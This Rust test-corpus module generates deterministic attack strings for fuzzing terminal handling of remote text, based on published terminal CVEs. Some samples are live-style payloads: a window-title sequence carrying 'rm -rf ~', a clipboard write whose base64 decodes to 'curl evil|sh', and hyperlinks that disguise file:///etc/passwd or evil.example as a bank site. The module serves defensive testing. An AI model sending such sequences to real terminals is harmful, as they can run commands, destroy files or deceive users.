//! Attack strings: what hostile events, mails and servers put into text to reach the terminal.
//!
//! Deterministic from a seed, so that a failing string can be named. Shared: include it with
//! `#[path = "attack/corpus.rs"] mod corpus;`. Kinds follow published attacks on terminals and on
//! programs that print remote text (CVE-2003-0063, CVE-2021-26937, CVE-2021-25743, CVE-2022-45063 …).

#![allow(clippy::unwrap_used, reason = "a test stops at the first surprise")]
#![allow(
    dead_code,
    reason = "each test file that includes this uses its own part"
)]

/// At least `n` strings, all kinds in turn. Torn UTF-8 is read as the wire layer reads it, with U+FFFD.
pub fn attack_strings(n: usize, seed: u64) -> Vec<String> {
    attack_bytes(n, seed)
        .iter()
        .map(|bytes| String::from_utf8_lossy(bytes).into_owned())
        .collect()
}

/// The same as bytes, not always UTF-8.
pub fn attack_bytes(n: usize, seed: u64) -> Vec<Vec<u8>> {
    let mut dice = Dice(seed);
    (0..n)
        .map(|number| attack(KINDS[number % KINDS.len()], &mut dice))
        .collect()
}

type Kind = fn(&mut Dice) -> Vec<u8>;

const KINDS: &[Kind] = &[
    control_bytes,
    escape_pairs,
    control_sequences,
    reports,
    titles,
    clipboards,
    links,
    notifications,
    device_controls,
    application_commands,
    graphics,
    eight_bit_controls,
    raw_eight_bit,
    bidi,
    tags,
    towers,
    orphan_marks,
    torn_text,
    long_lines,
    joiner_chains,
    noncharacters,
    newline_floods,
    selectors,
    hangul,
    indic,
    flags,
    separators,
    unfinished,
    nested,
    wide_text,
    blanks,
    mixture,
];

fn attack(kind: Kind, dice: &mut Dice) -> Vec<u8> {
    let mut bytes = dice
        .pick(&["", "Lunch ", "Re: ", "日本", "\r", "a\u{301}"])
        .as_bytes()
        .to_vec();
    bytes.extend(kind(dice));
    bytes.extend_from_slice(
        dice.pick(&["", " tail", "\u{1b}\\", "\u{7}", "é", "\u{200d}"])
            .as_bytes(),
    );
    bytes
}

/// A small generator (splitmix64): the corpus must not change with a library.
pub struct Dice(pub u64);

impl Dice {
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ (mixed >> 31)
    }

    pub fn below(&mut self, limit: u64) -> u64 {
        self.next() % limit.max(1)
    }

    pub fn between(&mut self, first: u32, last: u32) -> u32 {
        first + u32::try_from(self.below(u64::from(last - first) + 1)).unwrap()
    }

    pub fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[usize::try_from(self.below(from.len() as u64)).unwrap()]
    }

    fn character(&mut self, first: char, last: char) -> char {
        loop {
            if let Some(character) = char::from_u32(self.between(u32::from(first), u32::from(last)))
            {
                return character;
            }
        }
    }

    fn run(&mut self, most: u64, mut one: impl FnMut(&mut Self) -> String) -> Vec<u8> {
        let length = 1 + self.below(most);
        (0..length)
            .map(|_| one(self))
            .collect::<String>()
            .into_bytes()
    }

    fn end(&mut self) -> &'static str {
        self.pick(&["\u{7}", "\u{1b}\\", "\u{9c}", "", "\u{18}"])
    }
}

fn control_bytes(dice: &mut Dice) -> Vec<u8> {
    dice.run(20, |dice| {
        dice.character('\0', '\u{1f}').to_string() + dice.pick(&["", "x", "\u{7f}"])
    })
}

fn escape_pairs(dice: &mut Dice) -> Vec<u8> {
    dice.run(8, |dice| format!("\u{1b}{}", dice.character(' ', '~')))
}

fn control_sequences(dice: &mut Dice) -> Vec<u8> {
    dice.run(5, |dice| {
        let (private, number) = (dice.pick(&["", "?", ">", "<", "="]), dice.below(3000));
        let (more, between) = (
            dice.pick(&["", ";1", ";2;3", ":4", ";;;;"]),
            dice.pick(&["", " ", "!", "$", "\""]),
        );
        format!(
            "\u{1b}[{private}{number}{more}{between}{}",
            dice.character('@', '~')
        )
    })
}

fn reports(dice: &mut Dice) -> Vec<u8> {
    dice.pick(&[
        "\u{1b}[6n",
        "\u{1b}[c",
        "\u{1b}[21t",
        "\u{1b}[>0q",
        "\u{1b}P+q544e\u{1b}\\",
        "\u{1b}Z",
        "\u{5}",
        "\u{1b}[?u",
    ])
    .as_bytes()
    .to_vec()
}

fn titles(dice: &mut Dice) -> Vec<u8> {
    format!(
        "\u{1b}]{};rm -rf ~\r{}\u{1b}[21t",
        dice.pick(&["0", "1", "2", "l", "L"]),
        dice.end()
    )
    .into_bytes()
}

fn clipboards(dice: &mut Dice) -> Vec<u8> {
    format!(
        "\u{1b}]52;{};{}{}",
        dice.pick(&["c", "p", "", "s0"]),
        dice.pick(&["?", "Y3VybCBldmlsfHNo", "!"]),
        dice.end()
    )
    .into_bytes()
}

fn links(dice: &mut Dice) -> Vec<u8> {
    let url = dice.pick(&[
        "file:///etc/passwd",
        "https://evil.example/",
        "javascript:x",
        "x-man-page://a",
    ]);
    format!(
        "\u{1b}]8;;{url}{}https://bank.example\u{1b}]8;;{}",
        dice.end(),
        dice.end()
    )
    .into_bytes()
}

fn notifications(dice: &mut Dice) -> Vec<u8> {
    let command = dice.pick(&[
        "9;hi",
        "9;4;1;99",
        "777;notify;a;b",
        "99;i=1;hi",
        "1337;SetMark",
        "133;A",
        "10;?",
        "4;0;?",
        "50;x",
    ]);
    format!("\u{1b}]{command}{}", dice.end()).into_bytes()
}

fn device_controls(dice: &mut Dice) -> Vec<u8> {
    let body = dice.pick(&[
        "q#0;2;0;0;0#0~~@@vv",
        "$qm",
        "+p41",
        "tmux;\u{1b}\u{1b}]0;x\u{7}",
        "=1s",
    ]);
    format!("\u{1b}P{body}{}", dice.end()).into_bytes()
}

fn application_commands(dice: &mut Dice) -> Vec<u8> {
    format!(
        "\u{1b}{}payload{}",
        dice.pick(&["_", "^", "X", "k"]),
        dice.end()
    )
    .into_bytes()
}

fn graphics(dice: &mut Dice) -> Vec<u8> {
    let keys = dice.pick(&[
        "a=T,f=32,s=99999,v=99999",
        "a=q,t=f,i=1",
        "a=d,d=A",
        "t=s,a=t,f=100",
    ]);
    format!(
        "\u{1b}_G{keys};{}{}",
        "QUFB".repeat(usize::try_from(dice.below(50)).unwrap()),
        dice.end()
    )
    .into_bytes()
}

fn eight_bit_controls(dice: &mut Dice) -> Vec<u8> {
    dice.run(6, |dice| {
        format!(
            "{}{}",
            dice.character('\u{80}', '\u{9f}'),
            dice.pick(&["31m", "2J", "0;x", ""])
        )
    })
}

fn raw_eight_bit(dice: &mut Dice) -> Vec<u8> {
    let mut bytes = vec![u8::try_from(dice.between(0x80, 0x9f)).unwrap()];
    bytes.extend_from_slice(dice.pick(&["2J", "52;c;?\u{7}", "q\u{9c}"]).as_bytes());
    bytes
}

fn bidi(dice: &mut Dice) -> Vec<u8> {
    let control = [
        '\u{61c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}',
        '\u{202e}', '\u{2066}', '\u{2069}',
    ];
    dice.run(8, |dice| {
        format!(
            "{}{}",
            dice.pick(&control),
            dice.pick(&["exe.txt", "שלום", "12:30", ""])
        )
    })
}

fn tags(dice: &mut Dice) -> Vec<u8> {
    dice.run(60, |dice| {
        dice.character('\u{e0000}', '\u{e007f}').to_string()
    })
}

fn towers(dice: &mut Dice) -> Vec<u8> {
    dice.run(6, |dice| {
        let high = 1 + usize::try_from(dice.below(300)).unwrap();
        let mark = dice.character('\u{300}', '\u{36f}');
        format!(
            "{}{}",
            dice.pick(&["a", "Z", "한", "़"]),
            mark.to_string().repeat(high)
        )
    })
}

/// GNU Screen crashed on combining marks in places where no base was (CVE-2021-26937).
fn orphan_marks(dice: &mut Dice) -> Vec<u8> {
    dice.run(30, |dice| {
        let mark = dice.pick(&[
            '\u{301}',
            '\u{20dd}',
            '\u{1ab0}',
            '\u{fe20}',
            '\u{1dc0}',
            '\u{e0100}',
            '\u{20e3}',
        ]);
        format!("{}{mark}", dice.pick(&["", "\n", "\t", "\u{df}", " "]))
    })
}

fn torn_text(dice: &mut Dice) -> Vec<u8> {
    let whole = "日本語 👩\u{200d}💻 é".as_bytes();
    let mut bytes = Vec::new();
    for _ in 0..=dice.below(6) {
        let from = usize::try_from(dice.below(whole.len() as u64)).unwrap();
        bytes.extend_from_slice(&whole[from..]);
        bytes.extend_from_slice(dice.pick(&[
            b"\xed\xa0\x80".as_slice(),
            b"\xc0\x9b",
            b"\xff",
            b"\xf4\x90\x80\x80",
            b"\xe2",
        ]));
    }
    bytes
}

fn long_lines(dice: &mut Dice) -> Vec<u8> {
    let length = usize::try_from(dice.below(20_000)).unwrap();
    dice.pick(&["A", "日", "👍🏽", "ﷺ", "\u{1b}["])
        .repeat(length)
        .into_bytes()
}

fn joiner_chains(dice: &mut Dice) -> Vec<u8> {
    dice.run(80, |dice| {
        dice.pick(&[
            "👩\u{200d}",
            "\u{200d}",
            "👧🏽\u{200d}",
            "a\u{200d}",
            "❤\u{fe0f}\u{200d}",
        ])
        .to_owned()
    })
}

fn noncharacters(dice: &mut Dice) -> Vec<u8> {
    dice.run(10, |dice| {
        let plane = dice.between(0, 16) << 16;
        char::from_u32(plane | dice.pick(&[0xfffe, 0xffff]))
            .unwrap()
            .to_string()
            + dice.pick(&["\u{fdd0}", "\u{fdef}", ""])
    })
}

fn newline_floods(dice: &mut Dice) -> Vec<u8> {
    let length = usize::try_from(dice.below(5_000)).unwrap();
    dice.pick(&["\n", "\r", "\r\n", "\u{b}", "\u{c}", "\u{85}", "\n\t"])
        .repeat(length)
        .into_bytes()
}

fn selectors(dice: &mut Dice) -> Vec<u8> {
    dice.run(60, |dice| {
        let selector = dice.character('\u{fe00}', '\u{fe0f}');
        format!(
            "{}{selector}{}",
            dice.pick(&["", "a", "❤", "8"]),
            dice.character('\u{e0100}', '\u{e01ef}')
        )
    })
}

fn hangul(dice: &mut Dice) -> Vec<u8> {
    dice.run(120, |dice| {
        dice.character('\u{1100}', '\u{11ff}').to_string()
    })
}

fn indic(dice: &mut Dice) -> Vec<u8> {
    dice.run(60, |dice| {
        dice.pick(&[
            "क", "\u{94d}", "\u{93e}", "\u{200d}", "\u{200c}", "\u{301}", "\u{0dca}",
        ])
        .to_owned()
    })
}

fn flags(dice: &mut Dice) -> Vec<u8> {
    dice.run(60, |dice| {
        dice.pick(&[
            "🇩",
            "🇪",
            "🏴\u{e0067}\u{e0062}",
            "\u{e007f}",
            "🏳\u{fe0f}\u{200d}🌈",
        ])
        .to_owned()
    })
}

fn separators(dice: &mut Dice) -> Vec<u8> {
    dice.run(20, |dice| {
        dice.pick(&[
            "\u{2028}", "\u{2029}", "\u{feff}", "\u{fff9}", "\u{fffb}", "\u{200b}", "\u{2060}", "x",
        ])
        .to_owned()
    })
}

fn unfinished(dice: &mut Dice) -> Vec<u8> {
    dice.pick(&[
        "\u{1b}",
        "\u{1b}[",
        "\u{1b}[38;5",
        "\u{1b}]0;",
        "\u{1b}P",
        "\u{1b}]52;c;QUFB",
        "\u{9b}1",
        "\u{1b}_G",
    ])
    .as_bytes()
    .to_vec()
}

fn nested(dice: &mut Dice) -> Vec<u8> {
    format!(
        "\u{1b}\u{1b}[\u{1b}]{}\u{1b}[31\u{1b}[m\u{1b}[2\nJ{}",
        dice.pick(&["0;a", "52;c;?"]),
        dice.end()
    )
    .into_bytes()
}

fn wide_text(dice: &mut Dice) -> Vec<u8> {
    dice.run(60, |dice| {
        dice.pick(&["ｶﾞ", "﷽", "𒐫", "꧅", "㍻", "ㅤ", "𓀀"]).to_owned()
    })
}

fn blanks(dice: &mut Dice) -> Vec<u8> {
    dice.run(40, |dice| {
        dice.pick(&[
            "\u{3164}", "\u{115f}", "\u{1160}", "\u{ffa0}", "\u{180e}", "\u{ad}", "\u{3000}",
            "\u{2800}",
        ])
        .to_owned()
    })
}

fn mixture(dice: &mut Dice) -> Vec<u8> {
    let mut bytes = Vec::new();
    for _ in 0..2 + dice.below(4) {
        let kind = KINDS[usize::try_from(dice.below(KINDS.len() as u64 - 1)).unwrap()];
        bytes.extend(kind(dice));
    }
    bytes
}
